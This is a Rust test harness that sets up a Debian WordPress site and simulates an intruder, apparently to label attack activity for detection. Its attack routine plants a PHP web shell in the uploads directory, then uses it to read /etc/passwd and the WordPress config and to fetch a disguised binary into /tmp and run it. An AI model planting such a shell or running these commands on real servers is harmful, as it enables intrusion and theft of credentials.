//! Debian's WordPress with nginx, PHP-FPM and MariaDB: an editor's work, visitors, and the intruder.

use std::time::Duration;

use crate::web_host::WebHost;

/// In each command line that the intruder has run.
pub(crate) const ATTACK: &str = "r00t";

/// How long a step may take on a busy machine.
const PATIENCE: Duration = Duration::from_mins(2);

/// Installs the site and starts its servers.
pub(crate) fn prepare(host: &WebHost) {
    host.write("/etc/wordpress/config-default.php", CONFIGURATION);
    host.write("/etc/nginx/sites-enabled/default", SERVER);
    // Mail goes out by a relay that refuses it, which PHP does not wait for.
    host.write(
        "/etc/msmtprc",
        "account default\nhost 127.0.0.1\nfrom blog@node.example\n",
    );
    host.write("/srv/client/editor.py", include_str!("editor.py"));
    host.run_within(PREPARE, PATIENCE);
}

/// What an editor and a few visitors do in some minutes; the plugin has another version each time.
pub(crate) fn edit(host: &WebHost, version: u32) {
    let said = host.run_within(&format!("python3 /srv/client/editor.py 1.{version}"), PATIENCE);
    assert!(said.ends_with("done\n"), "{said}");
}

/// A web shell among the uploads: somebody looks around, fetches a program, runs it.
pub(crate) fn attack(host: &WebHost) {
    let uploads = "/var/lib/wordpress/wp-content/uploads";
    host.write(&format!("{uploads}/cache.php"), "<?php system($_GET['c']);");
    host.run(&format!("cp /bin/true {uploads}/cache.jpg"));
    let shell = "http://blog.example/wp-content/uploads/cache.php";
    for command in [
        "id; uname -a; cat /etc/passwd".to_owned(),
        format!(
            "curl -s http://blog.example/wp-content/uploads/cache.jpg -o /tmp/.{ATTACK} && chmod +x /tmp/.{ATTACK}"
        ),
        format!("/tmp/.{ATTACK}"),
        "ps aux; ls -la /home; cat /etc/wordpress/*".to_owned(),
    ] {
        host.get(shell, &[("c", &format!("{command}; # {ATTACK}"))]);
    }
}

const CONFIGURATION: &str = "<?php
define('DB_NAME', 'wordpress');
define('DB_USER', 'wordpress');
define('DB_PASSWORD', 'wordpress');
define('DB_HOST', 'localhost');
define('WP_CONTENT_DIR', '/var/lib/wordpress/wp-content');
define('FS_METHOD', 'direct');
";

const SERVER: &str = r"
server {
    listen 80;
    root /usr/share/wordpress;
    index index.php;
    location /wp-content/ {
        alias /var/lib/wordpress/wp-content/;
        location ~ \.php$ {
            include fastcgi_params;
            fastcgi_param SCRIPT_FILENAME $request_filename;
            fastcgi_pass unix:/run/php/php8.2-fpm.sock;
        }
    }
    location / { try_files $uri $uri/ /index.php?$args; }
    location ~ \.php$ { include fastcgi.conf; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }
}
";

const PREPARE: &str = r#"
    cp -n /usr/share/php8.2-*/*/*.ini /etc/php/8.2/mods-available/
    phpenmod -v 8.2 $(basename -s .ini -a /etc/php/8.2/mods-available/*.ini)
    mkdir -p /run/mysqld /var/lib/mysql
    chown mysql:mysql /run/mysqld /var/lib/mysql
    mysql_install_db --user=mysql --auth-root-authentication-method=socket --skip-test-db >/dev/null
    setsid mariadbd --user=mysql --skip-networking >/var/log/mysqld.log 2>&1 &
    for n in $(seq 300); do [ ! -S /run/mysqld/mysqld.sock ] || break; sleep 0.1; done
    mysql -e "
        CREATE DATABASE wordpress;
        CREATE USER 'wordpress'@'localhost' IDENTIFIED BY 'wordpress';
        GRANT ALL ON wordpress.* TO 'wordpress'@'localhost'"
    content=/var/lib/wordpress/wp-content
    for kind in themes plugins; do ln -sfn /usr/share/wordpress/wp-content/$kind/* $content/$kind/; done
    chown -R www-data:www-data $content
    rm -f /usr/sbin/policy-rc.d
    service php8.2-fpm start
    service nginx start
    curl -sS --fail 'http://blog.example/wp-admin/install.php?step=2' --data 'weblog_title=Node&user_name=admin&admin_password=correct-horse&admin_password2=correct-horse&pw_weak=1&admin_email=admin@node.example&blog_public=0&language=' |
        grep Success
"#;
